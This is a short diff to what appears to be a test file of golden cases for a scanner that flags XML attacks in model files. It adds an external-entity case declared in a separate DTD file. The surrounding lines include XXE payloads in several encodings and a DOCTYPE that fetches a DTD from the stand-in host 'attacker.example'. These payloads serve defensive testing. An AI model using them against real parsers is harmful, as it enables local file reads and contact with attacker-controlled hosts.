@@ -37,6 +37,7 @@ GOLDENS = [
     _pair("xml.external-entity", _entity(_FILE).encode("utf-16"), "UTF-16"),
     _pair("xml.external-entity", _entity(_FILE).encode("utf-16-le"), "UTF-16 without a mark"),
     _pair("xml.external-entity", "<!-- a > b -->" + _entity(_FILE).removeprefix(_HEAD), "behind a comment"),
+    _pair("xml.external-entity", _FILE + "<!ENTITY a 'b'>", "declarations alone", "<!ENTITY a 'b'>", "model.dtd"),
     _pair("xml.external-dtd", f'{_HEAD}<!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">{_BODY}'),
     _pair(
         "xml.external-dtd",
